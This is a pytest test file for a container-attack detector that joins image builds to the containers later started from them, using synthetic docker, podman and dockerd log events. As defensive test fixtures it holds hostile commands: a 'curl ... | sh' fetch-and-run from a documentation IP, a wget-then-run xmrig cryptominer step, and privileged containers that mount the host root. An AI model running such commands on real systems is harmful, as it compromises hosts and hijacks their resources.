"""What engines write of an ordinary day is no incident; a build and its start are joined by it."""

from __future__ import annotations

import json
import random
from typing import Any

import pytest

from t1612core import AUTO, Detector
from t1612core.incident import Incident

from .days import START, at

Event = dict[str, Any]
DETECTOR = Detector(schema=AUTO)
HOST = "runner-3"
# What docker's client sends by itself.
CLIENT = "buildargs=%7B%7D&cachefrom=%5B%5D&dockerfile=Dockerfile&labels=%7B%7D&rm=1&version=2"


def docker(second: float, type: str, action: str, id: str, **attributes: str) -> Event:
    time = int((START.timestamp() + second) * 1e9)
    actor = {"ID": id, "Attributes": attributes}
    return {"Type": type, "Action": action, "Actor": actor, "timeNano": time, "host": HOST}


def podman(second: float, type: str, status: str, name: str, image: str = "") -> Event:
    return {
        **{"ID": f"{second:064.0f}", "Name": name, "Image": image, "Status": status},
        **{"Time": at(second), "Type": type, "host": HOST},
    }


def logged(second: float, text: str) -> Event:
    quoted = text.replace("\\", "\\\\").replace('"', '\\"')
    line = f'time="{at(second)}" level=debug msg="{quoted}"'
    return {"_raw": f"Jun 01 07:00:00 {HOST} dockerd[81]: {line}"}


def created(second: float, image: str, **host: Any) -> Event:
    body = json.dumps({"Image": image, "Cmd": None, "HostConfig": host})
    return logged(second, f"form data: {body}")


def ran(second: float, step: str, place: str = "2/2") -> Event:
    """Give what BuildKit logs of a step that it runs."""
    line = f'time="{at(second)}" level=debug msg="> creating a1 [/bin/sh -c x]"'
    return {"_raw": f'Jun 01 07:00:00 {HOST} dockerd[81]: {line} span="[{place}] RUN {step}"'}


STEPS = (
    "apt-get update && apt-get install -y --no-install-recommends curl ca-certificates",
    "npm ci --omit=dev",
    "pip install --no-cache-dir -r requirements.txt",
    "curl -fsSL https://deb.nodesource.com/setup_22.x | bash -",
    "curl -sSL https://install.python-poetry.org | python3 -",
    "go build -o /out/app ./cmd/app",
    "adduser -D app && chown -R app /srv",
)


def found(events: list[Event]) -> list[Incident]:
    return DETECTOR.correlate(events)


def said(events: list[Event]) -> list[tuple[str, list[str]]]:
    return [(each.verdict, [step.stage for step in each.steps]) for each in found(events)]


def day_of_events(seed: int) -> list[Event]:
    """Give what docker says of a runner's day: images built, named, started, pushed, removed."""
    rng, events = random.Random(seed), []
    for number in range(60):
        second = 240.0 * number + rng.random() * 60
        image = f"registry.corp.example/shop/app:{number}"
        base = rng.choice(["alpine:3.20", "node:22", "postgres:17"])
        container, name = f"{number:064x}", f"job-{number}"
        events += [
            docker(second, "image", "pull", base, name=base.partition(":")[0]),
            docker(second + 9, "image", "tag", f"sha256:{number:064x}", name=image),
            docker(second + 12, "container", "create", container, image=image, name=name),
            docker(second + 13, "container", "start", container, image=image, name=name),
            docker(
                second + 20, "container", "exec_create: sh -c 'make test'", container, name=name
            ),
            docker(second + 60, "container", "die", container, image=image, name=name),
            docker(second + 61, "image", "push", image, name=image.rpartition(":")[0]),
            docker(second + 62, "container", "destroy", container, image=image, name=name),
        ]
        if number % 7 == 0:  # a mirror's image under its public name
            events.append(docker(second + 3, "image", "tag", f"sha256:{number:064x}", name=base))
            events.append(
                docker(second + 4, "container", "create", "ab" * 32, image=base, name="db")
            )
    return events


def day_of_log(seed: int) -> list[Event]:
    """Give what dockerd logs of a runner's day, by docker, compose and libraries."""
    rng, events = random.Random(seed), []
    for number in range(60):
        second = 240.0 * number + rng.random() * 60
        image = f"registry.corp.example/shop/app:{number}"
        builds = [
            *(f"/v1.47/build?{CLIENT}&t={image}&remote=client-session&session=x",) * 5,
            f"/v1.43/build?t={image}&q=False&nocache=True&rm=True&forcerm=True&pull=True",
            f"/v1.41/build?{CLIENT}&t={image}&networkmode=host&nocache=1",
            f"/v1.47/build?{CLIENT}&t={image}&remote=https%3A%2F%2Fgithub.com%2Fcorp%2Fapp.git",
        ]
        rights: dict[str, Any] = rng.choice(
            [
                *({},) * 8,
                {"Privileged": True},
                {"Binds": ["/var/run/docker.sock:/var/run/docker.sock"]},
                {"NetworkMode": "host"},
            ]
        )
        steps = rng.sample(STEPS, 3)
        events += [
            *(ran(second + 2 + place, each, f"{place + 2}/4") for place, each in enumerate(steps)),
            logged(second, "Calling HEAD /_ping"),
            logged(second + 1, f"Calling POST {rng.choice(builds)}"),
            logged(second + 9, f"Calling POST /v1.47/containers/create?name=job-{number}"),
            created(second + 9.01, image, **rights),
            logged(second + 10, f"Calling POST /v1.47/containers/{number:064x}/start"),
            logged(second + 60, f"Calling DELETE /v1.47/containers/{number:064x}"),
        ]
    return events


def day_of_podman(seed: int) -> list[Event]:
    """Give what podman says of a day of builds that are started at once."""
    rng, events = random.Random(seed), []
    for number in range(40):
        second = 300.0 * number + rng.random() * 60
        events += [
            podman(second, "image", "build", f"{number:064x}"),
            podman(second, "image", "tag", "localhost/app:latest"),
            podman(second + 4, "container", "create", f"app-{number}", "localhost/app:latest"),
            podman(second + 5, "container", "start", f"app-{number}", "localhost/app:latest"),
        ]
    return events


@pytest.mark.no_cover  # repeats at length what others run
@pytest.mark.parametrize("day", [day_of_events, day_of_log, day_of_podman])
def test_an_ordinary_day_is_no_incident(day: Any) -> None:
    for seed in range(3):
        assert [] == found(day(seed))


def test_the_days_have_builds_and_starts_to_join() -> None:
    for day in (day_of_events, day_of_log, day_of_podman):
        steps = [step for event in day(0) for step in DETECTOR.observe(event)]
        assert {"build", "deploy"} <= {step.stage for step in steps}
        assert {HOST} == {step.host for step in steps}


def test_a_build_and_its_start_are_seen_in_events_alone() -> None:
    """An image under a known name, made of a container, then started in its place."""
    container = "cd" * 32
    events = [
        *day_of_events(4),
        docker(20_000, "container", "exec_create: sh -c 'curl -s http://203.0.113.7/m | sh'"
            , container, image="alpine", name="x"),
        docker(20_005, "container", "commit", container, name="x", imageRef="nginx:1.27"),
        docker(20_020, "container", "create", "ef" * 32, image="nginx:1.27", name="web"),
    ]  # fmt: skip

    ((verdict, stages),) = said(events)
    assert "build-then-deploy" == verdict
    assert ["build", "deploy"] == stages[-2:]


def test_podmans_build_under_a_known_name_and_its_start_are_one_incident() -> None:
    name = "docker.io/library/redis:7"
    events = [
        *day_of_podman(4),
        podman(20_000, "image", "build", name),
        podman(20_009, "container", "create", "cache", name),
    ]

    assert [("build-then-deploy", ["build", "deploy"])] == said(events)


def test_a_request_by_hand_and_what_is_started_of_it_are_one_incident() -> None:
    remote = "http%3A%2F%2F203.0.113.7%2Fx.tar"
    events = [
        *day_of_log(4),
        logged(20_000, f"Calling POST /v1.43/build?t=upd&remote={remote}"),
        created(20_030, "upd", Privileged=True, PidMode="host", Binds=["/:/h"]),
    ]

    (incident,) = found(events)
    assert ("build-then-deploy", "high") == (incident.verdict, incident.severity)
    assert HOST == incident.host


def test_a_step_that_no_project_has_tells_of_the_build_that_ran_it() -> None:
    events = [
        *day_of_log(4),
        logged(20_000, f"Calling POST /v1.47/build?{CLIENT}&t=upd&remote=client-session"),
        ran(20_004, "wget -q http://203.0.113.9/xmrig && ./xmrig -o stratum+tcp://203.0.113.9:1"),
        created(20_030, "upd", Privileged=True, PidMode="host"),
    ]

    (incident,) = found(events)
    assert "build-then-deploy" == incident.verdict
    assert "daemon.hostile_step" in incident.steps[0].signals


def test_a_command_and_the_engines_report_of_it_are_one_build() -> None:
    """The client's event shows who; the log, seconds later, tells of the same."""
    process = {
        **{"TimeGenerated": at(20_000), "DeviceName": HOST, "ActionType": "ProcessCreated"},
        **{"FileName": "docker", "ProcessCommandLine": "docker build -t upd /dev/shm/.x"},
        **{"AccountName": "www-data", "InitiatingProcessFileName": "php-fpm8.2"},
    }
    events = [
        process,
        logged(20_001, f"Calling POST /v1.47/build?{CLIENT}&t=upd&remote=client-session"),
        created(20_030, "upd", Privileged=True),
    ]

    (incident,) = found(events)
    assert ["build", "deploy"] == list(dict.fromkeys(step.stage for step in incident.steps))
    assert ("www-data",) == tuple(incident.accounts)


def test_a_step_that_several_events_tell_of_names_what_any_of_them_names() -> None:
    build = {
        **{"Type": "DeviceProcessEvents", "FileName": "docker", "DeviceName": HOST},
        **{"TimeGenerated": at(1), "InitiatingProcessFileName": "nginx"},
        "ProcessCommandLine": "docker build -t x/y:1 /dev/shm/.x",
    }
    plugin = {
        **{**build, "FileName": "docker-buildx", "TimeGenerated": at(2)},
        "ProcessCommandLine": "docker-buildx buildx build -t x/y:1 --iidfile /srv/i /dev/shm/.x",
        "InitiatingProcessCommandLine": build["ProcessCommandLine"],
    }
    (incident,) = found([build, plugin])
    (step,) = incident.steps

    assert 2 == len(step.references)
    assert [("image", "x/y:1"), ("path", "/dev/shm/.x"), ("path", "/srv/i")] == [
        (link.kind, link.value) for link in step.links
    ]
